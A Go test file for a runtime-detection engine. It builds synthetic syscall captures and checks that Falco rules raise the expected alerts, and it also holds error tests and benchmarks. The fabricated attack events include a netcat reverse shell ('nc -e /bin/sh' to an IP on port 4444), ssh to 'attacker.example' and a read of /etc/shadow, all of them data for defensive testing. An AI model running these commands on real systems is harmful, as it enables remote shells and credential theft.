package replay_test

import (
	"bytes"
	"context"
	"net/netip"
	"os"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/falconer-sec/falconer/agent/replay"
	"github.com/falconer-sec/falconer/agent/scap"
	"github.com/falconer-sec/falconer/agent/scap/scaptest"
	"github.com/falconer-sec/falconer/compiler"
	"github.com/falconer-sec/falconer/compiler/eval"
	"github.com/falconer-sec/falconer/compiler/ir"
)

var (
	falcoRules = []string{"testdata/upstream-rules/falco_rules.yaml"}
	allRules   = []string{
		"testdata/upstream-rules/falco_rules.yaml",
		"testdata/upstream-rules/falco-incubating_rules.yaml",
		"testdata/upstream-rules/falco-sandbox_rules.yaml",
	}
)

func engine(tb testing.TB, files []string, opts eval.Options) *eval.Engine {
	tb.Helper()
	p, diags, err := compiler.Compile(os.DirFS("../.."), files, compiler.Options{})
	if err != nil {
		tb.Fatalf("compile: %v\n%s", err, diags.Errors())
	}
	eng, err := eval.New(p, opts)
	if err != nil {
		tb.Fatal(err)
	}
	return eng
}

const podCgroup = "cpuset=/kubepods/besteffort/pod77/cri-containerd-5b6c7d8e9f0112233445566778899aabbccddeeff00112233445566778899aab.scope"

// attackCapture writes a capture in which real-looking activity happens:
// a login shell reads /etc/shadow with cat (through a relative path and a
// dirfd), a container gets a terminal shell, nc -e runs in it, and ssh
// connects out on a non-standard port.
func attackCapture(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := scap.NewWriter(&buf, scap.WriterOptions{Compress: true})
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(w.WriteMachine(scap.MachineInfo{Hostname: "node-1"}))
	must(w.WriteUsers([]scap.User{{UID: 0, Name: "root", Home: "/root", Shell: "/bin/bash"}, {UID: 1000, GID: 1000, Name: "dev", Home: "/home/dev", Shell: "/bin/bash"}}, nil))
	must(w.WriteProcesses([]scap.Process{
		{Tid: 1, Pid: 1, Comm: "systemd", Exe: "/sbin/init", ExePath: "/usr/lib/systemd/systemd", Cwd: "/", LoginUID: 0xFFFFFFFF},
		{Tid: 700, Pid: 700, Ptid: 1, Comm: "containerd-shim", Exe: "containerd-shim", ExePath: "/usr/bin/containerd-shim-runc-v2", Cwd: "/", LoginUID: 0xFFFFFFFF},
		{Tid: 800, Pid: 800, Ptid: 1, Comm: "sshd", Exe: "sshd", ExePath: "/usr/sbin/sshd", Cwd: "/", LoginUID: 0xFFFFFFFF},
		{Tid: 900, Pid: 900, Ptid: 800, Comm: "bash", Exe: "-bash", ExePath: "/usr/bin/bash", Cwd: "/etc", UID: 0, LoginUID: 1000, Tty: 34816},
	}))
	b := scaptest.NewBuilder(w, uint64(time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC).UnixNano()))
	// cat /etc/shadow from a login shell whose cwd is /etc.
	must(b.Clone(900, scaptest.Clone{Res: 1001, Exe: "-bash", Comm: "bash", Ptid: 800}))
	must(b.Clone(1001, scaptest.Clone{Res: 0, Exe: "-bash", Comm: "bash", Ptid: 900, Cwd: "/etc"}))
	must(b.Execve(1001, scaptest.Exec{Exe: "cat", Args: []string{"shadow"}, ExePath: "/usr/bin/cat", Ptid: 900, Login: true, LoginUID: 1000, Tty: 34816}))
	must(b.Openat(1001, 3, scap.AtFDCWD, "shadow", scap.OpenReadOnly|scap.OpenCloexec, 0))
	must(b.Close(1001, 3, 0))
	must(b.ProcExit(1001, 0, 900))
	// A shell with a terminal in a container, then nc -e.
	must(b.Clone(700, scaptest.Clone{Res: 2000, Exe: "containerd-shim", Comm: "containerd-shim", Ptid: 1}))
	must(b.Clone(2000, scaptest.Clone{Res: 0, Exe: "runc", Comm: "runc", Ptid: 700, Cgroups: []string{podCgroup}}))
	must(b.Execve(2000, scaptest.Exec{Exe: "/bin/sh", ExePath: "/bin/sh", Ptid: 700, Cgroups: []string{podCgroup}, Tty: 34817}))
	must(b.Clone(2000, scaptest.Clone{Res: 2001, Exe: "/bin/sh", Comm: "sh", Ptid: 700, Cgroups: []string{podCgroup}}))
	must(b.Clone(2001, scaptest.Clone{Res: 0, Exe: "/bin/sh", Comm: "sh", Ptid: 2000, Cgroups: []string{podCgroup}}))
	must(b.Execve(2001, scaptest.Exec{Exe: "nc", Args: []string{"-e", "/bin/sh", "203.0.113.7", "4444"}, ExePath: "/usr/bin/nc", Ptid: 2000, Cgroups: []string{podCgroup}}))
	// ssh from the host shell to port 443 on the internet.
	must(b.Clone(900, scaptest.Clone{Res: 1002, Exe: "-bash", Comm: "bash", Ptid: 800}))
	must(b.Clone(1002, scaptest.Clone{Res: 0, Exe: "-bash", Comm: "bash", Ptid: 900}))
	must(b.Execve(1002, scaptest.Exec{Exe: "ssh", Args: []string{"-p", "443", "attacker.example"}, ExePath: "/usr/bin/ssh", Ptid: 900, Login: true, LoginUID: 1000}))
	must(b.Socket(1002, 3, scap.AFInet, 1, 6))
	must(b.Connect(1002, 3, 0, netip.MustParseAddrPort("10.0.0.5:40000"), netip.MustParseAddrPort("198.51.100.20:443")))
	// Ordinary activity that must stay silent.
	must(b.Openat(900, 4, scap.AtFDCWD, "/usr/lib/x86_64-linux-gnu/libc.so.6", scap.OpenReadOnly|scap.OpenCloexec, 0))
	must(b.Close(900, 4, 0))
	must(w.Close())
	return buf.Bytes()
}

func TestReplayUpstream(t *testing.T) {
	eng := engine(t, falcoRules, eval.Options{})
	var alerts []*eval.Alert
	sum, err := replay.Run(context.Background(), bytes.NewReader(attackCapture(t)), eng, replay.Options{}, func(a *eval.Alert) error {
		alerts = append(alerts, a)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	want := []struct {
		rule   string
		fields map[string]string
	}{
		{"Read sensitive file untrusted", map[string]string{
			"fd.name": "/etc/shadow", "proc.name": "cat", "proc.pname": "bash", "proc.aname[2]": "sshd",
			"proc.exepath": "/usr/bin/cat", "user.name": "root", "user.loginuid": "1000", "proc.cmdline": "cat shadow",
		}},
		{"Terminal shell in container", map[string]string{"proc.name": "sh", "proc.pname": "containerd-shim", "proc.tty": "34817"}},
		{"Netcat Remote Code Execution in Container", map[string]string{"proc.cmdline": "nc -e /bin/sh 203.0.113.7 4444", "proc.pname": "sh"}},
		{"Disallowed SSH Connection Non Standard Port", map[string]string{"fd.name": "10.0.0.5:40000->198.51.100.20:443", "fd.rport": "443", "proc.exepath": "/usr/bin/ssh"}},
	}
	if len(alerts) != len(want) {
		var got []string
		for _, a := range alerts {
			got = append(got, a.Rule)
		}
		t.Fatalf("got %d alerts %q, want %d", len(alerts), got, len(want))
	}
	for i, w := range want {
		a := alerts[i]
		if a.Rule != w.rule {
			t.Errorf("alert %d: rule %q, want %q", i, a.Rule, w.rule)
			continue
		}
		if a.Hostname != "node-1" {
			t.Errorf("alert %d: hostname %q, want the capture's node-1", i, a.Hostname)
		}
		for k, v := range w.fields {
			if got := field(a, k); got != v {
				t.Errorf("%s: %s = %q, want %q (output %q)", a.Rule, k, got, v, a.Message)
			}
		}
	}
	if sum.Alerts != 4 || sum.Events == 0 || sum.Evaluated == 0 {
		t.Errorf("summary = %+v", sum)
	}
	// The container id reaches the container-aware rules' outputs too.
	if !strings.Contains(string(alerts[1].JSON()), `"rule":"Terminal shell in container"`) {
		t.Errorf("JSON alert: %s", alerts[1].JSON())
	}
}

func field(a *eval.Alert, name string) string {
	for _, f := range a.Fields {
		if f.Name == name {
			if f.Value == nil {
				return "<NA>"
			}
			switch v := f.Value.(type) {
			case string:
				return v
			case int64:
				return itoa(v)
			case bool:
				if v {
					return "true"
				}
				return "false"
			}
		}
	}
	return "(absent)"
}

func itoa(n int64) string {
	var b [24]byte
	i := len(b)
	neg := n < 0
	if neg {
		n = -n
	}
	for {
		i--
		b[i] = byte('0' + n%10)
		n /= 10
		if n == 0 {
			break
		}
	}
	if neg {
		i--
		b[i] = '-'
	}
	return string(b[i:])
}

func TestReplayErrors(t *testing.T) {
	eng := engine(t, falcoRules, eval.Options{})
	data := attackCapture(t)
	tests := []struct {
		name string
		data []byte
		want string
	}{
		{"empty", nil, "scap"},
		{"not a capture", []byte("hello world, this is not a capture file at all"), "scap"},
		{"truncated", data[:len(data)/2], "unexpected EOF"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := replay.Run(context.Background(), bytes.NewReader(tt.data), eng, replay.Options{}, nil)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("Run() error = %v, want it to contain %q", err, tt.want)
			}
		})
	}
}

// bigCapture generates a large synthetic capture once per benchmark
// binary: millions of open/close and exec events across a process tree.
var bigCaptureData []byte

func bigCapture(b *testing.B) []byte {
	if bigCaptureData == nil {
		var buf bytes.Buffer
		w := scap.NewWriter(&buf, scap.WriterOptions{})
		if _, err := scaptest.Generate(w, scaptest.Config{Events: 2_000_000, Seed: 1}); err != nil {
			b.Fatal(err)
		}
		if err := w.Close(); err != nil {
			b.Fatal(err)
		}
		bigCaptureData = buf.Bytes()
	}
	return bigCaptureData
}

func benchReplay(b *testing.B, files []string) {
	var eng *eval.Engine
	if files == nil {
		eng, _ = eval.New(&ir.Program{Format: ir.FormatVersion}, eval.Options{})
	} else {
		eng = engine(b, files, eval.Options{})
	}
	data := bigCapture(b)
	b.SetBytes(int64(len(data)))
	b.ResetTimer()
	var events uint64
	cpu0 := cpuTime()
	for i := 0; i < b.N; i++ {
		sum, err := replay.Run(context.Background(), bytes.NewReader(data), eng, replay.Options{Hostname: "bench"}, nil)
		if err != nil {
			b.Fatal(err)
		}
		events += sum.Events
	}
	cpu := cpuTime() - cpu0
	b.StopTimer()
	b.ReportMetric(float64(events)/b.Elapsed().Seconds(), "events/s")
	if cpu > 0 {
		b.ReportMetric(float64(events)/cpu.Seconds(), "events/cpu-s")
	}
}

// BenchmarkReplay replays a large generated capture (2M events: mostly
// open/close, plus exec, clone, connect) through the upstream rules on one
// goroutine. Falco 0.44.1 does ~850k events/s with falco_rules.yaml and
// ~237k events/s with all three files on this kind of machine.
func BenchmarkReplay(b *testing.B) {
	b.Run("no-rules", func(b *testing.B) { benchReplay(b, nil) })
	b.Run("falco_rules", func(b *testing.B) { benchReplay(b, falcoRules) })
	b.Run("all-three", func(b *testing.B) { benchReplay(b, allRules) })
}

func cpuTime() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}
